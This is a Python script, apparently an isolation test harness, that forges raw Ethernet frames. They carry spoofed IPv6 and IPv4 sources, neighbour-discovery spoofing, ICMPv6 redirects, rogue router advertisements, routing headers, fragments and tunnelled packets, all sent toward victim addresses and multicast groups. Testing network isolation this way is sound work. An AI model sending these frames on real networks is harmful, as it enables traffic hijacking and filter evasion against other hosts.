"""Sends by a raw socket on eth0 what a hostile Machine with all rights might send to a Machine of another network.

Argument: JSON with `gateway` (its hardware address), `me`, `victims` (IPv6), `forged` (IPv6 sources that are not ours),
`links` (IPv4, of others) and `link` (our own). Says how many frames went out. Upper checksums are wrong on purpose of
brevity: whoever forwards does not look at them.
"""
import json
import socket
import struct
import sys

settings = json.loads(sys.argv[1])
TCP, UDP, ICMP6, HOP, ROUTING, FRAGMENT, OPTIONS = 6, 17, 58, 0, 43, 44, 60
syn = struct.pack("!HHIIBBHHH", 4444, 8080, 1, 0, 5 << 4, 2, 1024, 0, 0)
ack = struct.pack("!HHIIBBHHH", 4444, 8080, 1, 1, 5 << 4, 16, 1024, 0, 0)
udp = struct.pack("!HHHH", 4444, 53, 12, 0) + b"mark"


def mac(text):
    return bytes.fromhex(text.replace(":", ""))


def ip6(address):
    return socket.inet_pton(socket.AF_INET6, address)


def packet6(source, target, header, body, hops=64):
    return struct.pack("!IHBB", 6 << 28, len(body), header, hops) + ip6(source) + ip6(target) + body


def icmp6(kind, body, code=0):
    return struct.pack("!BBH", kind, code, 0) + body


def packet4(source, target, header, body):
    def pack(checksum):
        return struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(body), 7, 0, 64, header, checksum) + ends

    ends = socket.inet_aton(source) + socket.inet_aton(target)
    total = sum(struct.unpack("!10H", pack(0)))
    total = (total >> 16) + (total & 0xFFFF)
    return pack(~(total + (total >> 16)) & 0xFFFF) + body


def empty_options(following):
    return struct.pack("!BB", following, 0) + b"\x01\x04\x00\x00\x00\x00"


def bodies(source, victim):
    """Next header and what follows, for one source and target."""
    inner = packet6(victim, settings["me"], UDP, udp)
    yield from ((TCP, syn), (TCP, ack), (UDP, udp), (HOP, empty_options(TCP) + syn), (OPTIONS, empty_options(UDP) + udp))
    yield ICMP6, icmp6(128, b"\0\0\0\0mark")
    for kind in (1, 2, 3):
        yield ICMP6, icmp6(kind, b"\0\0\5\0" + inner)
    yield FRAGMENT, struct.pack("!BBHI", UDP, 0, 1, 9) + udp[:8]
    yield FRAGMENT, struct.pack("!BBHI", UDP, 0, 8, 9) + udp[8:]
    yield 41, inner
    yield 59, b""


def frames6():
    link = b"\1\1" + mac("02:00:00:00:66:66")
    for source in [settings["me"], *settings["forged"]]:
        for victim in settings["victims"]:
            for header, body in bodies(source, victim):
                yield packet6(source, victim, header, body)
            for kind in (0, 2, 4):
                route = struct.pack("!BBBBI", UDP, 2, kind, 1, 0) + ip6(victim)
                yield packet6(source, "fdaa::3", ROUTING, route + udp)
            for kind, rest in ((135, ip6(victim)), (136, ip6(victim)), (137, ip6(source) + ip6(victim))):
                for target in (victim, "fe80::1", "ff02::1"):
                    yield packet6(source, target, ICMP6, icmp6(kind, b"\xe0\0\0\0" + rest + link), 255)
        for group in ("ff02::1", "ff02::2", "ff05::1", "ff0e::1"):
            yield packet6(source, group, UDP, udp)
            yield packet6(source, group, ICMP6, icmp6(128, b"\0\0\0\0mark"))
            yield packet6(source, group, ICMP6, icmp6(134, b"\x40\x08\xff\xff" + bytes(8) + link), 255)


def frames4():
    for source in [settings["link"], *settings["links"], "127.0.0.1", "198.51.100.7"]:
        for target in [*settings["links"], "127.0.0.1", "255.255.255.255", "224.0.0.1"]:
            inner = packet6(settings["forged"][0], settings["victims"][0], UDP, udp)
            for header, body in ((TCP, syn), (TCP, ack), (UDP, udp), (1, b"\x08\0\0\0\0\0\0\0"), (41, inner)):
                yield packet4(source, target, header, body)


wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
wire.bind(("eth0", 0))
ours = wire.getsockname()[4]
sent = 0
for kind, frames in ((0x86DD, frames6()), (0x0800, frames4())):
    for frame in frames:
        wire.send(mac(settings["gateway"]) + ours + struct.pack("!H", kind) + frame)
        sent += 1
print(sent)
